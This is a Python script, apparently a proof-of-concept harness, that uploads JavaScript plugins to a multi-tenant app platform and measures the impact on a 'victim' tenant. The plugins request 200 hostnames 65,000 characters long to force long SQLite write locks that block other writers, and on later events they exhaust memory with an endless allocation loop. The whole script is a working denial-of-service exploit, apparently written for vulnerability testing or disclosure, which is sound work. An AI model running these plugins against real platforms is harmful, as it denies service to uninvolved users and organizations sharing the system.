"""Host names of 65 kB: an app asks for 200 made-up ones, each of which was kept (13 MB in the app's outlet) and written down in one transaction of
about 3 s, during which nobody else could write (SQLite). Then its process ends, so that the next event begins with an empty list. The names are one label
of 65,000 characters: they cannot be put into a DNS packet, so none is sent. One person, two organizations, no traffic but some events."""

import time

from common import Honest, Org, arguments, stage

CODE = """
let calls = 0
function name() { let text = ''; while (text.length < 24) text += Math.random().toString(36).slice(2); return text + 'a'.repeat(LENGTH) }
async function onEvent(event) {
    calls += 1
    if (calls > 1) { const all = []; for (;;) all.push(new Array(100000).fill(calls)) }
    for (let i = 0; i < 200; i += 20) {
        await Promise.all(Array.from({ length: 20 }, () => fetch('https://' + name() + '/').catch(() => 0)))
    }
}
module.exports = { onEvent }
"""


def main():
    given = arguments(__doc__, organizations=2, configurations=4, length=65000)
    with stage(given, 1) as (server, keys, victim):
        orgs = [Org(server, keys[0], f"Hosts {n}") for n in range(given.organizations)]
        listed = []
        for org in orgs:
            app = org.app({"plugin.json": '{"name": "Hosts"}', "index.js": CODE.replace("LENGTH", str(given.length))})
            listed.append((org, app, [org.enable(app) for _ in range(1)]))
            # Other configurations of the same app need other apps, as a team has one of each.
            for _ in range(given.configurations - 1):
                more = org.app({"plugin.json": '{"name": "Hosts"}', "index.js": CODE.replace("LENGTH", str(given.length))})
                listed.append((org, more, [org.enable(more)]))
        with Honest(victim) as quiet:
            time.sleep(4)
        quiet.say("before")
        with Honest(victim) as others:
            for org in orgs:
                print("events:", org.send(120).status)
            time.sleep(given.seconds)
        others.say(f"while {len(listed)} apps ask for hosts with names of {given.length} characters")
        for org, app, configs in listed[:2]:
            hosts = org.ask("GET", f"{app}configs/{configs[0]}/hosts/")
            logs = org.ask("GET", f"{app}configs/{configs[0]}/logs/")
            print("  recorded hosts:", hosts.status, hosts.body.get("count") if hosts.status == 200 else hosts, len(hosts.text), "bytes; log:",
                  [line.get("message", "")[:100] for line in logs.body.get("results", [])][:3] if logs.status == 200 else logs)
        for org, app, _ in listed:
            org.ask("DELETE", app)


main()
